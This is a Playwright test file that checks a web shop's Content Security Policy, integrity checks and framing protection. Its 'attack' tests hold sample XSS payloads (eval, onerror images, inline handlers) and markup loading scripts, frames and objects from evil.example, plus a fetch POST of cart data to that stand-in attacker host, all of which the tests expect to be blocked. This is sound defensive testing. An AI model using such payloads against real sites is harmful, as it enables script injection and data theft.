import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { panel, press, slider } from './panel';
import { cards, cartLink, choose, expect, row, search, test as shop } from './shop';

/** Collects the violations of the policy on all pages: the directive and what it refused. */
const test = shop.extend<{ violations: string[] }>({
  violations: async ({ context }, use) => {
    const violations: string[] = [];
    await context.exposeBinding('reportViolation', (_source, text: string) => violations.push(text));
    await context.addInitScript(() => {
      const { reportViolation } = window as unknown as { reportViolation: (text: string) => void };
      addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
        reportViolation(`${effectiveDirective} ${blockedURI} ${sample}`.trim()),
      );
    });
    await use(violations);
  },
});

test('a walk through the shop violates nothing', async ({ page, violations, alerts }) => {
  await page.clock.install();
  await page.goto('/');
  await choose(page, /Organizar por/, 'Mais vendidos');
  await page.getByRole('tab', { name: 'Canecas' }).click();
  await page.getByRole('button', { name: 'Próxima página' }).first().click();
  await search(page, 'Número 2');
  await cards(page).first().getByRole('link').click();
  await page.getByRole('button', { name: 'ADICIONAR AO CARRINHO' }).click();
  await choose(page, /Quantidade/i, '3');
  await page.getByRole('button', { name: /^Remover/ }).click();
  await page.getByRole('button', { name: /^Desfazer/ }).click();
  await page.getByRole('button', { name: 'Finalizar a compra' }).click();
  await expect(page.getByText('Agradecemos a preferência, volte sempre!')).toBeVisible();
  await page.clock.fastForward(6_000);
  await expect(cards(page).first()).toBeVisible();
  for (const path of ['/cart', '/product/unknown', '/nowhere', `/product/${row(4).id}`]) {
    await page.goto(path);
    await expect(cartLink(page)).toBeVisible();
  }
  expect(alerts).toEqual(['Produto Removido com sucesso!']);
  expect(violations).toEqual([]);
});

test('a walk through the QA panel violates nothing', { tag: '@soak' }, async ({ page, violations }) => {
  await page.goto('/?qa');
  await expect(panel(page)).toHaveCSS('position', 'fixed'); // Its styles are there.
  await search(page, 'Número 2');
  const downloaded = page.waitForEvent('download');
  await press(page, 'Download log');
  expect(await (await downloaded).failure()).toBeNull();
  await page.getByLabel('Open log').setInputFiles('tests/logs/tour.json');
  await slider(page).fill('24');
  await panel(page).getByText('Whole state').click();
  await press(page, 'Play');
  await expect(slider(page)).not.toHaveValue('24');
  await slider(page).press('End');
  await page.getByLabel('Compare with another log').setInputFiles('tests/logs/cart.json');
  await expect(panel(page).getByRole('region', { name: /^Comparison/ })).toBeVisible();
  await press(page, 'Close comparison');
  await press(page, 'Continue from here');
  await press(page, 'Replace my session');
  await page.reload();
  await expect(panel(page).getByRole('region', { name: /^Earlier recordings/ })).toBeVisible();
  expect(violations).toEqual([]);
});

test.describe('an attack', () => {
  test.use({ announced: /./ });

  /** Lets the page run an attack. Returns 'done', or the name of the error. */
  const attempt = (page: Page, code: 'eval' | 'innerHTML' | 'handler' | 'address') =>
    page.evaluate(
      // In another task, because code of the test's protocol may evaluate texts.
      (what) =>
        new Promise<string>((resolve) =>
          setTimeout(() => {
            try {
              if (what === 'eval') window.eval('window.planted = 1');
              if (what === 'innerHTML') document.body.innerHTML = '<img src="x" onerror="planted = 1">';
              if (what === 'handler') document.body.setAttribute('onclick', 'planted = 1');
              if (what === 'address') document.createElement('script').src = '/pictures/planted.js';
              resolve('done');
            } catch (error) {
              resolve((error as Error).name);
            }
          }),
        ),
      code,
    );
  const ran = (page: Page) => page.evaluate(() => 'planted' in window);

  test('scripts that the page itself would run are refused', async ({ page, violations }) => {
    for (const [code, error] of [
      ['eval', 'EvalError'],
      ['innerHTML', 'TypeError'],
      ['handler', 'TypeError'],
      ['address', 'TypeError'],
    ] as const)
      await test.step(code, async () => {
        await page.goto('/');
        violations.length = 0;
        expect(await attempt(page, code)).toBe(error);
        expect(await ran(page)).toBe(false);
        await expect.poll(() => violations.join()).toMatch(/^(require-trusted-types-for|script-src) /);
      });
  });

  test('markup that is planted into the page is refused', async ({ page, violations }) => {
    let planted = '';
    await page.route('/', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</head>', `</head>${planted}`);
      await route.fulfill({ response, body });
    });
    for (const [html, directive] of [
      ['<script>planted = 1</script>', 'script-src-elem inline'],
      ['<img src="data:," onerror="planted = 1">', 'script-src-attr inline'],
      ['<script src="https://evil.example/a.js"></script>', 'script-src-elem https'],
      ['<iframe src="https://evil.example/"></iframe>', 'frame-src https'],
      ['<style>h1 { color: red }</style>', 'style-src-elem inline'],
      ['<p style="color: red"></p>', 'style-src-attr inline'],
      ['<object data="https://evil.example/"></object>', 'object-src https'],
      ['<base href="https://evil.example/">', 'base-uri https'],
    ] as const)
      await test.step(directive, async () => {
        planted = html;
        violations.length = 0;
        await page.goto('/');
        expect(await ran(page)).toBe(false);
        await expect.poll(() => violations.join('\n')).toContain(directive);
      });
  });

  test('a request to elsewhere is refused', async ({ page, violations }) => {
    await page.goto('/');
    const answer = await page.evaluate(() =>
      fetch('https://evil.example/', { method: 'POST', body: 'cart' }).then(() => 'sent', String),
    );
    expect(answer).toContain('TypeError');
    await expect.poll(() => violations.join()).toContain('connect-src https://evil.example/');
  });

  test('a script of the own server is refused without a hash', async ({ context }) => {
    const page = await context.newPage();
    await page.route('/planted.js', (route) =>
      route.fulfill({ body: 'planted = 1', contentType: 'text/javascript' }),
    );
    await page.route('/', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</body>', '<script src="/planted.js"></script></body>');
      await route.fulfill({ response, body });
    });
    await page.goto('/');
    await expect(page.locator('html[data-restoring]')).toHaveCount(0);
    expect(await ran(page)).toBe(false);
  });

  for (const name of ['main', 'catalogue', 'cart'])
    test(`a changed ${name} script does not run`, async ({ context }) => {
      const page = await context.newPage();
      let answered = 0;
      await page.route(`**/assets/${name}.*.js`, async (route) => {
        const response = await route.fetch();
        await route.fulfill({ response, body: `${await response.text()};planted = 1` });
        answered += 1;
      });
      const refused = page.waitForEvent('console', (message) => message.text().includes('integrity'));
      await page.goto('/');
      // The first sign of a visitor who stays loads the other pages, once the application runs.
      await expect
        .poll(async () => {
          await page.mouse.move(answered, 1);
          await page.mouse.move(answered, 2);
          return answered;
        })
        .toBeGreaterThan(0);
      await refused;
      expect(await ran(page)).toBe(false);
    });

  test('a page of another site cannot frame the shop', async ({ context, baseURL }) => {
    const evil = createServer((_request, response) =>
      response.setHeader('content-type', 'text/html').end(`<iframe src="${baseURL}/cart"></iframe>`),
    ).listen(0);
    const { port } = evil.address() as AddressInfo;
    const page = await context.newPage();
    await page.goto(`http://localhost:${port}/`);
    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
    evil.close();
  });
});
